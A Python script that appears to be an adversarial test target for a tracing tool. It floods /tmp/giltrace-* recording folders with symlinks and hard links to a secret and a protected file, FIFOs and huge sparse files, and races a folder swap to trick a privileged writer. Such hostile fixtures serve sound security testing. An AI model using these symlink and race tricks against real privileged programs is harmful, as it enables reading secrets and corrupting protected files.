"""A user's program that, once it is attached to, puts in the way of whoever did that what a user can.

SECRET is a file that it may not read, PRECIOUS one that it may not write to. It never ends by itself.
"""

import glob
import os
import sys
import threading
import time

secret, precious = sys.argv[1:]


def attempt(function, *arguments):
    try:
        return function(*arguments)
    except OSError:
        return None


def long_hole(name):
    descriptor = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    os.ftruncate(descriptor, 1 << 42)
    os.close(descriptor)


def lay(folder):
    attempt(os.symlink, secret, folder + "/notes.txt")
    attempt(os.symlink, secret, folder + "/stacks-1-0.bin")
    attempt(os.symlink, precious, folder + "/gil-1-0.bin")
    attempt(os.link, precious, folder + "/gil-2-0.bin")
    attempt(os.mkfifo, folder + "/gil-3-0.bin")
    attempt(os.mkdir, folder + "/gil-4-0.bin")
    attempt(long_hole, folder + "/gil-5-0.bin")
    attempt(os.symlink, folder, folder + "/gil-6-0.bin")


def swap(folder):
    """Exchange the whole for a link to a folder of root's, now and then, and back."""
    aside = folder + "-aside"
    if attempt(os.rename, folder, aside) is None and os.path.isdir(aside):
        attempt(os.symlink, os.path.dirname(precious), folder)
        time.sleep(0.0005)
        attempt(os.unlink, folder)
        attempt(os.rename, aside, folder)


def spoil():
    while True:
        for folder in glob.glob("/tmp/giltrace-*"):
            if os.path.isdir(folder + "/recording") and os.stat(folder).st_uid == os.geteuid():
                lay(folder + "/recording")
                if "swap" in os.environ:
                    swap(folder)
        time.sleep(0.001)


threading.Thread(target=spoil, name="spoiler", daemon=True).start()
print("ready", flush=True)
while True:
    time.sleep(0.002)
